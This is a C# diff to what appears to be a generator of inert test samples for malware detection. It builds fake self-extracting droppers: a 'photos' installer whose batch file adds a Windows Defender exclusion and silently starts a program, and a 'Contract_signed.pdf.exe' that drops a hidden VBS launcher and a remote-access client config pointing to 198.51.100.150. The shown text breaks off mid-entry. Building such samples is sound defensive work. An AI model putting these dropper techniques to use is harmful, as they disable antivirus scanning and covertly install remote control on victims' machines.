@@ -83,9 +83,9 @@ public sealed class SelfStarters : SixthRound
     /// <inheritdoc/>
     public override IEnumerable<(string Name, byte[] Content)> Variants()
     {
-        yield return ("photos_2026.exe", [.. InertFiles.Pe(8192), .. Utf8(";!@Install@!UTF-8!\r\nTitle=\"Photos\"\r\nGUIMode=\"2\"\r\nOverwriteMode=\"2\"\r\nInstallPath=\"%TEMP%\\\\ph\"\r\nRunProgram=\"hidcon:cmd.exe /c run.bat\"\r\n;!@InstallEnd@!\r\n"),
+        yield return ("photos_2026.exe", [.. SixthInstallers.Starter(), .. Utf8(";!@Install@!UTF-8!\r\nTitle=\"Photos\"\r\nGUIMode=\"2\"\r\nOverwriteMode=\"2\"\r\nInstallPath=\"%TEMP%\\\\ph\"\r\nRunProgram=\"hidcon:cmd.exe /c run.bat\"\r\n;!@InstallEnd@!\r\n"),
             .. SixthInstallers.SevenZip(("run.bat", Dos("@echo off\npowershell -c Add-MpPreference -ExclusionPath %TEMP%\nstart svc.exe\nstart photo.jpg\n")), ("svc.exe", InertFiles.Pe(4096)), ("photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[64], 0xFF, 0xD9]))]);
-        yield return ("Contract_signed.pdf.exe", [.. InertFiles.Pe(4096), .. InertFiles.Zip(("contract.pdf", Utf8("%PDF-1.4\n%%EOF\n")), ("host.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"client32.exe\", 0\n")), ("client32.exe", InertFiles.Pe(2048)), ("client32.ini", Dos("[HTTP]\nGatewayAddress=198.51.100.150:443\nGSK=inert\n[Client]\nsilent=1\nSysTray=0\n"))),
+        yield return ("Contract_signed.pdf.exe", [.. SixthInstallers.Starter(), .. InertFiles.Zip(("contract.pdf", Utf8("%PDF-1.4\n%%EOF\n")), ("host.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"client32.exe\", 0\n")), ("client32.exe", InertFiles.Pe(2048)), ("client32.ini", Dos("[HTTP]\nGatewayAddress=198.51.100.150:443\nGSK=inert\n[Client]\nsilent=1\nSysTray=0\n"))),
             .. Utf8("\r\n;The comment below contains SFX script commands\r\nPath=%AppData%\\host\r\nSetup=wscript.exe host.vbs\r\nSetup=contract.pdf\r\nSilent=1\r\nOverwrite=1\r\n")]);
         yield return ("script.a3x", [0xA3, 0x48, 0x4B, 0xBE, 0x98, 0x6C, 0x4A, 0xA9, 0x99, 0x4C, 0x53, 0x0A, 0x86, 0xD6, 0x48, 0x7D, .. "AU3!EA06"u8, .. SixthNoise.Bytes(30000, 64)]);
         yield return ("readme.au3", Dos("""
